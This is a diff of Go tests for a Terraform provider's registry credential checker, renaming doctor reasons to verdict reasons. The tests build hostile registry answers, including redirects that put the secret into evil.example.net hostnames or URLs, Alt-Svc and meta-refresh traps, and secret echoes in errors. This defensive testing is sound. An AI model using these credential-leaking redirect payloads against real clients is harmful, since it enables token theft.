@@ -11,13 +11,14 @@ import (
 	"github.com/stellaops/terraform-provider-stellaops/internal/doctor"
 	"github.com/stellaops/terraform-provider-stellaops/internal/registry"
 	"github.com/stellaops/terraform-provider-stellaops/internal/registrytest"
+	"github.com/stellaops/terraform-provider-stellaops/internal/verdict"
 )
 
 // useAttacks lead a trial use away: an upload that starts elsewhere, and
 // redirects of each method.
 func useAttacks() []attack {
-	const uploads, accepted, unproven = "/v2/org/app/blobs/uploads/1", doctor.ReasonAccepted, doctor.ReasonAccessUnproven
-	use := func(name, action string, reason doctor.Reason, bait func(visit) response) attack {
+	const uploads, accepted, unproven = "/v2/org/app/blobs/uploads/1", verdict.ReasonAccepted, verdict.ReasonAccessUnproven
+	use := func(name, action string, reason verdict.Reason, bait func(visit) response) attack {
 		return attack{name: name, want: presenting(reason), arrange: asking(action), answers: func(v visit) response {
 			switch {
 			case v.Authorization == "":
@@ -37,7 +38,7 @@ func useAttacks() []attack {
 		started := reply(202, "", "Location", strings.Replace(target.location, "/v2/", uploads, 1), "Docker-Upload-Uuid", "1")
 		row := use("upload starts at "+target.name, "push", accepted, always(started))
 		issued := row
-		issued.variant, issued.want, issued.answers = "with an issued token", exchanging(doctor.ReasonExchangeAccepted), func(v visit) response {
+		issued.variant, issued.want, issued.answers = "with an issued token", exchanging(verdict.ReasonExchangeAccepted), func(v visit) response {
 			switch {
 			case v.Authorization != "Bearer "+attackMinted:
 				return registrytest.Unauthorized(bearerWanted)
@@ -81,7 +82,7 @@ func headerAttacks() []attack {
 		{"X-Accel-Redirect", trap},
 		{"Www-Authenticate", `Bearer realm="` + trap + `"`},
 	} {
-		rows = append(rows, attack{name: "header " + header.name + " of an answer", want: presenting(doctor.ReasonAccepted), answers: func(v visit) response {
+		rows = append(rows, attack{name: "header " + header.name + " of an answer", want: presenting(verdict.ReasonAccepted), answers: func(v visit) response {
 			if v.Authorization == "" {
 				challenged := registrytest.Unauthorized(basicWanted)
 				if header.name != "Www-Authenticate" {
@@ -93,16 +94,16 @@ func headerAttacks() []attack {
 		}})
 	}
 	for _, status := range []int{201, 202, 300, 304, 305, 306, 404, 410, 421, 426} {
-		rows = append(rows, attack{name: "status " + strconv.Itoa(status) + " with a Location", want: presenting(doctor.ReasonNotARegistry),
+		rows = append(rows, attack{name: "status " + strconv.Itoa(status) + " with a Location", want: presenting(verdict.ReasonNotARegistry),
 			answers: baits(always(reply(status, "", "Location", trap, "Upgrade", "h2c")))})
 	}
-	http2 := attack{name: "header Alt-Svc over HTTP/2", want: presenting(doctor.ReasonAccepted), answers: takes, arrange: overHTTP2(registrytest.Response{
+	http2 := attack{name: "header Alt-Svc over HTTP/2", want: presenting(verdict.ReasonAccepted), answers: takes, arrange: overHTTP2(registrytest.Response{
 		Status: 200, Header: map[string][]string{"Alt-Svc": {`h2="evil.example.net:443"`}, "Link": {"<" + trap + ">; rel=preload"}}, Body: "{}",
 	})}
-	redirected := attack{name: "/v2/ leads to another host over HTTP/2", want: presenting(doctor.ReasonUnexpectedRedirect), answers: takes, arrange: overHTTP2(redirection(307, trap))}
+	redirected := attack{name: "/v2/ leads to another host over HTTP/2", want: presenting(verdict.ReasonUnexpectedRedirect), answers: takes, arrange: overHTTP2(redirection(307, trap))}
 	page := `<html><head><meta http-equiv="refresh" content="0; url=` + trap + `"><base href="` + trap + `"></head></html>`
 	return append(rows, http2, redirected,
-		attack{name: "page that leads on", want: presenting(doctor.ReasonNotARegistry), answers: baits(always(reply(200, page, "Content-Type", "text/html")))})
+		attack{name: "page that leads on", want: presenting(verdict.ReasonNotARegistry), answers: baits(always(reply(200, page, "Content-Type", "text/html")))})
 }
 
 // overHTTP2 has a registry that speaks HTTP/2 and answers credentials with the
@@ -144,12 +145,12 @@ func echoAttacks() []attack {
 		}
 		rows = append(rows,
 			attack{name: "echo of the secret " + echo.name, variant: "in an error", answers: baits(says),
-				want: map[registry.Method]doctor.Reason{basicMethod: doctor.ReasonInvalidCredentials, bearerMethod: doctor.ReasonUnsupportedChallenge}},
+				want: map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonInvalidCredentials, bearerMethod: verdict.ReasonUnsupportedChallenge}},
 			attack{name: "echo of the secret " + echo.name, variant: "in plain text", answers: baits(func(v visit) response { return reply(403, echo.form(secretOf(v))) }),
-				want: presenting(doctor.ReasonForbidden)},
+				want: presenting(verdict.ReasonForbidden)},
 			attack{name: "echo of the secret " + echo.name, variant: "in an error of the token service", answers: wants(bearerWanted), tokens: says,
-				want: exchanging(doctor.ReasonInvalidCredentials)},
-			attack{name: "echo of the secret " + echo.name, variant: "in an OAuth2 error", answers: wants(bearerWanted), want: exchanging(doctor.ReasonInvalidCredentials),
+				want: exchanging(verdict.ReasonInvalidCredentials)},
+			attack{name: "echo of the secret " + echo.name, variant: "in an OAuth2 error", answers: wants(bearerWanted), want: exchanging(verdict.ReasonInvalidCredentials),
 				tokens: func(v visit) response {
 					message, _ := json.Marshal(echo.form(secretOf(v))) // a string always encodes
 					return reply(400, `{"error":"invalid_grant","error_description":`+string(message)+`}`)
@@ -160,42 +161,42 @@ func echoAttacks() []attack {
 		return registrytest.Unauthorized(`Bearer realm="https://auth.example.com/` + url.PathEscape(s) + `?s=` + url.QueryEscape(s) + `",service="` + s + `",scope="` + s + `",error="` + s + `",error_description="expired: ` + s + `"`)
 	}
 	return append(rows,
-		attack{name: "echo of the secret in a challenge", want: map[registry.Method]doctor.Reason{bearerMethod: doctor.ReasonTokenExpired, basicMethod: doctor.ReasonTokenRejected},
+		attack{name: "echo of the secret in a challenge", want: map[registry.Method]verdict.Reason{bearerMethod: verdict.ReasonTokenExpired, basicMethod: verdict.ReasonTokenRejected},
 			answers: baits(inChallenge), writtenByRegistry: true},
-		attack{name: "echo of the secret in a challenge", variant: "to a service that refuses", want: map[registry.Method]doctor.Reason{basicMethod: doctor.ReasonInvalidCredentials},
+		attack{name: "echo of the secret in a challenge", variant: "to a service that refuses", want: map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonInvalidCredentials},
 			answers: baits(inChallenge), writtenByRegistry: true, tokens: always(registrytest.Unauthorized(basicWanted))},
-		attack{name: "echo of the secret in a challenge that leads nowhere", want: presenting(doctor.ReasonUnsupportedChallenge),
+		attack{name: "echo of the secret in a challenge that leads nowhere", want: presenting(verdict.ReasonUnsupportedChallenge),
 			answers: baits(func(v visit) response {
 				s := secretOf(v)
 				return registrytest.Unauthorized(`Digest realm="` + s + `",service="` + s + `",error="` + s + `"`)
 			})},
-		attack{name: "echo of the secret in a redirect", variant: "as a host in base64", want: presenting(doctor.ReasonUnexpectedRedirect),
+		attack{name: "echo of the secret in a redirect", variant: "as a host in base64", want: presenting(verdict.ReasonUnexpectedRedirect),
 			answers: baits(func(v visit) response {
 				return redirection(302, "https://"+encoded(secretOf(v))+".evil.example.net/")
 			})},
-		attack{name: "echo of the secret in a redirect", variant: "as a user and a path", want: presenting(doctor.ReasonUnexpectedRedirect),
+		attack{name: "echo of the secret in a redirect", variant: "as a user and a path", want: presenting(verdict.ReasonUnexpectedRedirect),
 			answers: baits(func(v visit) response {
 				s := url.PathEscape(secretOf(v))
 				return redirection(302, "https://ci:"+s+"@evil.example.net/"+s+"?"+s)
 			})},
-		attack{name: "echo of the secret in a redirect of the token service", want: exchanging(doctor.ReasonUnexpectedRedirect), answers: wants(bearerWanted),
+		attack{name: "echo of the secret in a redirect of the token service", want: exchanging(verdict.ReasonUnexpectedRedirect), answers: wants(bearerWanted),
 			tokens: func(v visit) response {
 				s := url.PathEscape(secretOf(v))
 				return redirection(307, "https://ci:"+s+"@evil.example.net/"+s)
 			}},
 		attack{name: "echo of the secret as the token, which the registry shows",
-			want:   map[registry.Method]doctor.Reason{basicMethod: doctor.ReasonTokenRejected, identityMethod: doctor.ReasonExchangeUnavailable},
+			want:   map[registry.Method]verdict.Reason{basicMethod: verdict.ReasonTokenRejected, identityMethod: verdict.ReasonExchangeUnavailable},
 			tokens: func(v visit) response { return reply(200, `{"token":"`+secretOf(v)+`"}`) },
 			answers: func(v visit) response {
 				return func() response { r := registrytest.Unauthorized(bearerWanted); r.Body = secretOf(v); return r }()
 			}},
-		attack{name: "echo of the issued token", want: exchanging(doctor.ReasonTokenRejected),
+		attack{name: "echo of the issued token", want: exchanging(verdict.ReasonTokenRejected),
 			answers: func(v visit) response {
 				r := registrytest.Unauthorized(bearerWanted)
 				r.Body = `{"errors":[{"code":"INVALID","message":"` + v.Authorization + `"}]}`
 				return r
 			}},
-		attack{name: "echo of the secret in headers and a cookie", want: presenting(doctor.ReasonAccepted), answers: baits(func(v visit) response {
+		attack{name: "echo of the secret in headers and a cookie", want: presenting(verdict.ReasonAccepted), answers: baits(func(v visit) response {
 			s := secretOf(v)
 			return reply(200, s, "Docker-Distribution-Api-Version", s, "Set-Cookie", "s="+url.QueryEscape(s)+"; Domain=example.com", "X-Secret", s, "Content-Type", "text/"+s)
 		})},
